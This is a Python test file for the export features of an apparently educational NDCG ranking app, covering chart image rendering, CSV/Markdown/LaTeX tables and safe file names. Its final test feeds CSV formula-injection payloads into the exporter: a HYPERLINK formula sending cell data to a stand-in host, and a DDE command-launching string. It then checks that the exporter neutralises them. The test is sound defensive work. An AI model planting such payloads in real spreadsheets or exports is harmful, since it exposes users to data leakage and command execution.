"""The export widget's helpers: chart images rendered by vl-convert, table texts, file names."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import pytest

import ndcg_core
from ndcg_core.teaching.scenarios import BLUETOOTH_HEADPHONES
from ui.breakdown_table import display_frame
from ui.charts.playground import chart_spec, cumulative_data, ndcg_by_k_data, per_rank_data, with_data
from ui.exports import chart_png, chart_svg, file_stem, inline_data, table_texts

GRADES = list(BLUETOOTH_HEADPHONES.grades)
TABLE = ndcg_core.breakdown(GRADES, 5, labels=list(BLUETOOTH_HEADPHONES.labels))
CHARTS = {
    "per_rank": per_rank_data(TABLE, 5),
    "cumulative": cumulative_data(TABLE),
    "ndcg_by_k": ndcg_by_k_data(ndcg_core.ndcg_at_every_k(GRADES), 5),
}


@pytest.mark.parametrize("kind", list(CHARTS))
def test_chart_png_and_svg(kind: str):
    spec = with_data(kind, CHARTS[kind], 5)
    assert chart_png(spec).startswith(b"\x89PNG\r\n\x1a\n")
    svg = ET.fromstring(chart_svg(spec))
    assert svg.tag == "{http://www.w3.org/2000/svg}svg"
    expected = {"per_rank": "contribution", "cumulative": "k = 5", "ndcg_by_k": "NDCG@k for every k"}[kind]
    assert expected in "".join(svg.itertext())  # the data and labels made it into the picture


def test_inline_data_turns_frames_into_records_and_leaves_the_spec_alone():
    spec = with_data("ndcg_by_k", CHARTS["ndcg_by_k"], 5)
    attached = spec["datasets"]["ranks"]
    inlined = inline_data(spec)
    rows = inlined["datasets"]["ranks"]
    assert rows[0] == {"rank": 1, "ndcg": 0.0, "current": "other k"} and len(rows) == len(GRADES)
    assert type(rows[0]["rank"]) is int and type(rows[0]["ndcg"]) is float
    assert spec["datasets"]["ranks"] is attached  # the page's spec is not changed
    assert "datasets" not in chart_spec("ndcg_by_k")  # nor the cached spec every page shares


def test_table_texts_use_readable_headers_and_every_format():
    texts = table_texts(display_frame(TABLE, 5), 2, as_typed=["Grade", "Ideal grade"])
    assert set(texts) == {"CSV", "Markdown", "LaTeX"}
    header = next(csv.reader(io.StringIO(texts["CSV"])))
    assert header[:8] == ["Rank", "Item", "Grade", "Gain", "Discount", "Contribution", "CG", "DCG"]
    assert "| 1 | Portable Bluetooth Speaker | 0 | 0.00 | 1.00 |" in texts["Markdown"]
    assert "top 5" in texts["LaTeX"] and "beyond k" in texts["LaTeX"]


def test_file_stem_keeps_only_safe_characters():
    assert file_stem("CG, DCG & IDCG / rank") == "CG_DCG_IDCG_rank"
    assert file_stem("../..") == "table"


def test_the_per_rank_download_of_hostile_names_holds_no_formula():
    """The Playground's per-rank CSV, with item names a shared link could carry."""
    names = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    table = ndcg_core.breakdown([3, 2, 1, 0], 3, labels=names)
    rows = list(csv.reader(io.StringIO(table_texts(display_frame(table, 3), 2)["CSV"], newline="")))
    items = [row[1] for row in rows[1:]]
    assert items == ["'" + name for name in names]
    assert rows[1][3] == "7.0"  # a number stays a number (gain 2^3 − 1)
